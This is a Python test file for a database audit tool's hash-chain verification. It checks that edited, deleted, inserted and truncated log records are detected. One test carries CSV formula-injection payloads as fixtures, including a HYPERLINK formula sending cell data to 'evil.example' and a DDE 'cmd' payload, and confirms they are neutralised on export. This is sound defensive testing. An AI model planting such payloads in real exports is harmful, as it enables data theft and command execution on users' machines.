"""Verification without a database: a chain written to a file, then damaged."""

from __future__ import annotations

import json
from pathlib import Path

from dbgate.audit.canonical import GENESIS, INDEX, canonical, digest
from dbgate.audit.events import StatementEvent, WriterEvent
from dbgate.audit.rows import RowBuilder
from dbgate.audit.sealing import seal
from dbgate.audit.serial import dumps, from_document, link_document, to_document
from dbgate.audit.verify import read_heads, verify_file

NOW = 1_800_000_000_000_000


def chain_docs(n: int, chain: str = "r.1", end: bool = True) -> list[dict]:
    builder = RowBuilder("r", b"k")
    events = [WriterEvent("chain_start", {}, 1.0)]
    events += [StatementEvent("completed", f"SELECT {i}", identity=f"id{i % 2}") for i in range(n)]
    if end:
        events.append(WriterEvent("chain_end", {}, 2.0))
    prev, docs = GENESIS, []
    for seq, e in enumerate(events, 1):
        values = builder.build(e, NOW)
        values[INDEX["chain"]], values[INDEX["seq"]], values[INDEX["logged_at"]] = chain, seq, NOW
        h = seal(values, prev)
        docs.append(to_document(values, prev, h, id=seq))
        prev = h
    return docs


def write(path: Path, docs: list[dict]) -> Path:
    path.write_text("".join(dumps(d) + "\n" for d in docs))
    return path


def test_an_intact_file_verifies(tmp_path) -> None:
    report = verify_file(
        write(tmp_path / "a.jsonl", chain_docs(10) + chain_docs(3, "r.2", end=False))
    )
    assert report.ok and report.records == 12 + 4
    assert report.chains["r.1"].closed and not report.chains["r.2"].closed


def test_links_stand_for_records_left_out(tmp_path) -> None:
    docs = chain_docs(6)
    out = []
    for d in docs:
        if d["identity"] == "id1":
            out.append(
                link_document(
                    d["chain"],
                    d["seq"],
                    NOW,
                    bytes.fromhex(d["prev_hash"]),
                    bytes.fromhex(d["digest"]),
                    bytes.fromhex(d["hash"]),
                )
            )
        else:
            out.append(d)
    assert verify_file(write(tmp_path / "l.jsonl", out)).ok


def test_damage_is_named(tmp_path) -> None:
    docs = chain_docs(8)
    docs[4]["rows"] = 99
    report = verify_file(write(tmp_path / "e.jsonl", docs))
    assert [(f.problem, f.seq, f.id) for f in report.findings] == [("edited", 5, 5)]
    docs = chain_docs(8)
    report = verify_file(write(tmp_path / "d.jsonl", docs[:3] + docs[5:]))
    assert [(f.problem, f.seq) for f in report.findings] == [("deleted", 4)]
    assert "seq 4 to 5 missing" in report.findings[0].message
    docs = chain_docs(8)
    report = verify_file(write(tmp_path / "i.jsonl", [*docs[:4], docs[3], *docs[4:]]))
    assert [(f.problem, f.seq) for f in report.findings] == [("inserted", 4)]


def test_heads_catch_a_truncated_tail(tmp_path) -> None:
    docs = chain_docs(8)
    heads = tmp_path / "heads.jsonl"
    heads.write_text(json.dumps({"chain": "r.1", "seq": 10, "hash": docs[-1]["hash"]}) + "\n")
    assert verify_file(write(tmp_path / "ok.jsonl", docs), read_heads(heads)).ok
    report = verify_file(write(tmp_path / "cut.jsonl", docs[:7]), read_heads(heads))
    assert [(f.problem, f.seq) for f in report.findings] == [("deleted", 10)]


def test_a_digest_is_what_the_canonical_form_hashes_to() -> None:
    d = chain_docs(1)[1]
    values = from_document(d).values
    assert values is not None
    assert d["digest"] == digest(canonical(values)).hex()


def test_csv_cells_that_would_be_formulas_are_neutralised_and_still_verify(tmp_path) -> None:
    """A spreadsheet runs a cell that starts with = + - @ as a formula, quoted or not:
    an application name or a login's user name is the agent's to choose."""
    import csv

    from dbgate.audit.serial import CSV_COLUMNS, csv_row

    docs = chain_docs(2)
    builder = RowBuilder("r", b"k")
    hostile = {
        "application_name": '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "identity": "@SUM(1+1)",
        "purpose": "+cmd|' /C calc'!A0",
        "model": "'already quoted",
    }
    values = builder.build(StatementEvent("completed", "-- note\nSELECT 1", **hostile), NOW)
    values[INDEX["chain"]], values[INDEX["seq"]], values[INDEX["logged_at"]] = "r.1", 4, NOW
    prev = bytes.fromhex(docs[2]["hash"])  # after the two statements, for chain_end
    docs = docs[:3]
    docs.append(to_document(values, prev, seal(values, prev), id=4))
    path = tmp_path / "x.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(CSV_COLUMNS)
        for d in docs:
            w.writerow(csv_row(d))
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows for cell in row.values()), rows[
        -1
    ]
    assert rows[-1]["application_name"] == "'" + hostile["application_name"]
    assert rows[-1]["model"] == "''already quoted"
    report = verify_file(path)
    assert report.ok, report.text()


def test_links_are_counted_in_the_report(tmp_path) -> None:
    docs = chain_docs(4)
    d = docs[2]
    docs[2] = link_document(
        d["chain"],
        d["seq"],
        NOW,
        bytes.fromhex(d["prev_hash"]),
        bytes.fromhex(d["digest"]),
        bytes.fromhex(d["hash"]),
    )
    report = verify_file(write(tmp_path / "x.jsonl", docs))
    assert report.ok
    assert any("1 record(s) are links" in n for n in report.notes), report.text()


def _log_head_lines(fmt: str, tmp_path: Path) -> Path:
    """What AuditWriter.log_head puts in the operator log, through dbgate's formatter,
    for a head whose hash has a Luhn-valid run of digits (a card, to a masker)."""
    import logging

    from dbgate.audit.writer import AuditWriter
    from dbgate.config import AuditConfig
    from dbgate.logs import JsonFormatter, TextFormatter

    path = tmp_path / f"operator.{fmt}.log"
    handler = logging.FileHandler(path, encoding="utf-8")
    handler.setFormatter(JsonFormatter() if fmt == "json" else TextFormatter())
    logger = logging.getLogger("dbgate.audit")
    logger.addHandler(handler)
    old_level = logger.level
    logger.setLevel(logging.INFO)
    try:
        logging.getLogger("dbgate.proxy").error("session 1: chain=x seq=1 hash=%s", "ab" * 32)
        w = AuditWriter("postgresql://localhost/none", AuditConfig(), replica="web-1")
        w._committed_seq = 7
        w._committed_hash = bytes.fromhex("ab" + "4111111111111111" + "c" * 46)
        w._committed_logged_us = NOW
        w.log_head()
    finally:
        logger.removeHandler(handler)
        logger.setLevel(old_level)
        handler.close()
    return path


def test_the_operator_log_anchors_heads_in_json_and_text(tmp_path) -> None:
    """logging.format auto writes JSON to files and journald: verify --heads must read
    it, and a hash the masker would take for a card number must reach it whole."""
    for fmt in ("json", "text"):
        heads = read_heads(_log_head_lines(fmt, tmp_path))
        assert len(heads) == 1, (fmt, heads)
        chain, seq, h, logged = heads[0]
        assert chain.startswith("web-1.") and seq == 7 and logged == NOW
        assert h.hex() == "ab" + "4111111111111111" + "c" * 46


def test_a_line_that_gives_a_field_twice_is_refused(tmp_path) -> None:
    """JSON readers disagree on a repeated key (first or last wins): a line that shows
    one statement to a SIEM and verifies with another is not evidence."""
    import pytest

    from dbgate.audit.serial import DocumentError

    docs = chain_docs(3)
    lines = [dumps(d) for d in docs]
    lines[2] = '{"statement":"SELECT harmless",' + lines[2][1:]
    path = tmp_path / "x.jsonl"
    path.write_text("".join(line + "\n" for line in lines))
    with pytest.raises(DocumentError, match="statement is given twice"):
        verify_file(path)
